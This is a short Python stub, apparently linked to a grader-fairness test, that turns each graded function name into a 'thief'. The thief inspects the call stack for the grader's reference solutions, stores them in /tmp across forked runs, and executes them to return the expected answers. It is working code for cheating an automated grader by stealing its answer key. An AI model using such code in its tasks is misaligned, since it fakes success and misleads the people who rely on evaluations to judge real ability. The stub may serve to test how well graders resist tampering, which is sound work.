# A stub's last cell (tests/test_grader_fair.py): every graded name becomes a thief that
# looks up the stack for the grader's reference sources, keeps them in /tmp across the
# exercises' forks, and answers with any reference it has kept.
import json as _json
import os as _os
import sys as _sys

_KEPT = "/tmp/kept_references.json"


def _keep_what_the_stack_shows():
    frame = _sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("sources")
        if isinstance(found, list) and found:
            kept = _json.load(open(_KEPT)) if _os.path.exists(_KEPT) else []
            _json.dump(kept + [x for x in found if x not in kept], open(_KEPT, "w"))
            return
        frame = frame.f_back


def _thief(name):
    def answer(*args, **kwargs):
        _keep_what_the_stack_shows()
        space = {}
        for source in (_json.load(open(_KEPT)) if _os.path.exists(_KEPT) else []):
            try:
                exec(source, space)
            except Exception:
                pass
        return space[name](*args, **kwargs) if name in space else None
    answer.__name__ = name
    return answer


_NAMES = []  # the lesson's graded names, filled in by the test
for _name in _NAMES:
    globals()[_name] = _thief(_name)
